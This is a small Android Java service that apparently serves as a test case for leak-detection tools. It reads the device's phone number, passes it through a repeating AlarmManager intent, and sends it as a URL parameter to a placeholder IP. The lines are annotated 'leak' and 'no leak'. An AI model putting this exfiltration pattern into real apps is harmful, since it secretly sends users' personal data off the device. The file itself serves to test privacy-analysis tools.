package habits;

import android.app.AlarmManager;
import android.app.PendingIntent;
import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Wakes itself with what it found out. */
public class Alarmed extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        String known = intent.getStringExtra("line");
        if (known != null) {
            try {
                new URL("http://203.0.113.8/a?l=" + known).openStream(); // leak
                new URL("http://203.0.113.8/a?v=" + intent.getStringExtra("version")).openStream(); // no leak
            } catch (Exception ignored) {
            }
            return START_NOT_STICKY;
        }
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Intent later = new Intent(this, Alarmed.class);
        later.putExtra("line", phone.getLine1Number());
        later.putExtra("version", "3");
        PendingIntent pending = PendingIntent.getService(this, 0, later, 0);
        AlarmManager alarms = (AlarmManager) getSystemService(Context.ALARM_SERVICE);
        alarms.setRepeating(AlarmManager.RTC_WAKEUP, 0, 60000, pending);
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
